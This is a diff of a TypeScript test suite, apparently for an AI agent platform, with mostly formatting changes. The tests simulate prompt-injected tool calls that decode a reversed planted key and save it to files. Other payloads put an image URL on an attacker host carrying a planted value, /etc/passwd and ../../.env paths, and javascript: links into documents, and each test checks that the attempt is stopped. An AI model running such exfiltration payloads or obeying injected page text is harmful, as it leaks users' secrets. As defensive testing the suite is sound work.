@@ -191,12 +191,13 @@ found.append(pyodide_js)", "from pyodide.code import run_js; found.append(run_js
       expect(attacker.received).toEqual([]);
     });
 
-  test("have pictures of a host of the attacker's put into each document: stopped by writers that fetch nothing and link to no file", async ({
-    world,
-  }) => {
-    const { attacker } = world;
-    const address = `${attacker.url}/x.png?d=${PLANTED.control}`;
-    const code = `const address = ${JSON.stringify(address)};
+  test(
+    "have pictures of a host of the attacker's put into each document: stopped by writers that " +
+      "fetch nothing and link to no file",
+    async ({ world }) => {
+      const { attacker } = world;
+      const address = `${attacker.url}/x.png?d=${PLANTED.control}`;
+      const code = `const address = ${JSON.stringify(address)};
 const markdown = "![x](" + address + ") <img src='" + address + "'> [y](file:///etc/passwd) \
 [z](javascript:1)";
 await write.pdf("a.pdf", { markdown });
@@ -208,11 +209,12 @@ const refused = [];
 for (const path of ["/etc/passwd", "../../.env", "file:///etc/passwd", address])
   try { await write.zip("b.zip", [path]); } catch (error) { refused.push(error.message); }
 return refused.length`;
-    expect(await runCode(world, code)).toContain('"result":4');
-    expect(attacker.received).toEqual([]);
-  });
+      expect(await runCode(world, code)).toContain('"result":4');
+      expect(attacker.received).toEqual([]);
+    },
+  );
 
-  test("turn a secret back that a host showed backwards: stopped by redaction of what comes out", async ({
+  test("turn back a secret shown backwards: stopped by redaction of what comes out", async ({
     world,
   }) => {
     const backwards = [...PLANTED.crmKey].reverse().join("");
@@ -222,44 +224,47 @@ return refused.length`;
     expect(told).not.toContain(PLANTED.crmKey);
   });
 
-  test("save a secret in a file that a host showed backwards: stopped by redaction of what code hands over", async ({
-    world,
-  }) => {
-    const { owner, model } = world;
-    const backwards = [...PLANTED.crmKey].reverse().join("");
-    const code =
-      `const key = [...${JSON.stringify(backwards)}].reverse().join(""); save("key.txt", "it is ` +
-      '" + key); await write.csv("key.csv", [{ key }]); await write.zip("key.zip", ' +
-      '["key.txt"]); return 1;';
-    const python = `key = ${JSON.stringify(backwards)}[::-1]\nsave("python.txt", "it is " + key)`;
-    const agent = await importAgent(owner, {
-      name: "Coder",
-      config: { version: 1, tools: { builtin: ["run_javascript", "run_python"] } },
-    });
-    const mark = model.teach(model.mark(), [
-      call("run_javascript", { code }),
-      call("run_python", { code: python }),
-    ]);
-    const { run_id } = await startRun(owner.api, {
-      agent_id: agent,
-      input: { text: `A page said: ${mark}` },
-    });
-    expect((await waitForRun(owner.api, run_id)).status).toBe("completed");
-    const { data } = (await owner.api.get(`/v1/runs/${run_id}/files`)).as("RunFilePage");
-    expect(data.map(({ path }) => path).sort()).toEqual([
-      ...["key.csv", "key.txt", "key.zip", "python.txt"],
-    ]);
-    for (const { path } of data) {
-      const { bytes } = await owner.api.get(`/v1/runs/${run_id}/files/content`, {
-        query: { path },
+  test(
+    "save a secret in a file that a host showed backwards: stopped by redaction of what code " +
+      "hands over",
+    async ({ world }) => {
+      const { owner, model } = world;
+      const backwards = [...PLANTED.crmKey].reverse().join("");
+      const code =
+        `const key = [...${JSON.stringify(backwards)}].reverse().join(""); save("key.txt", "it ` +
+        "is " +
+        '" + key); await write.csv("key.csv", [{ key }]); await write.zip("key.zip", ' +
+        '["key.txt"]); return 1;';
+      const python = `key = ${JSON.stringify(backwards)}[::-1]\nsave("python.txt", "it is " + key)`;
+      const agent = await importAgent(owner, {
+        name: "Coder",
+        config: { version: 1, tools: { builtin: ["run_javascript", "run_python"] } },
       });
-      const text = strFromU8(path === "key.zip" ? (unzipSync(bytes)["key.txt"] ?? bytes) : bytes);
-      expect(text).toContain("[redacted]");
-      expect(text).not.toContain(PLANTED.crmKey);
-    }
-  });
+      const mark = model.teach(model.mark(), [
+        call("run_javascript", { code }),
+        call("run_python", { code: python }),
+      ]);
+      const { run_id } = await startRun(owner.api, {
+        agent_id: agent,
+        input: { text: `A page said: ${mark}` },
+      });
+      expect((await waitForRun(owner.api, run_id)).status).toBe("completed");
+      const { data } = (await owner.api.get(`/v1/runs/${run_id}/files`)).as("RunFilePage");
+      expect(data.map(({ path }) => path).sort()).toEqual([
+        ...["key.csv", "key.txt", "key.zip", "python.txt"],
+      ]);
+      for (const { path } of data) {
+        const { bytes } = await owner.api.get(`/v1/runs/${run_id}/files/content`, {
+          query: { path },
+        });
+        const text = strFromU8(path === "key.zip" ? (unzipSync(bytes)["key.txt"] ?? bytes) : bytes);
+        expect(text).toContain("[redacted]");
+        expect(text).not.toContain(PLANTED.crmKey);
+      }
+    },
+  );
 
-  test("pack a secret that a host showed backwards into bytes: stopped by a look into what code saves", async ({
+  test("pack a secret shown backwards into bytes: stopped by a look into what code saves", async ({
     world,
   }) => {
     const { owner, model } = world;
@@ -335,7 +340,7 @@ test.describe("What a text says: a run is to", () => {
     ).toHaveLength(7);
   });
 
-  test("make 500 calls at once: they are made a few at a time, and another account's run goes on beside them", async ({
+  test("make 500 calls at once: they are made by the few, another account's run goes on", async ({
     world,
   }) => {
     const agentId = await armedAgent(world, tagOf());
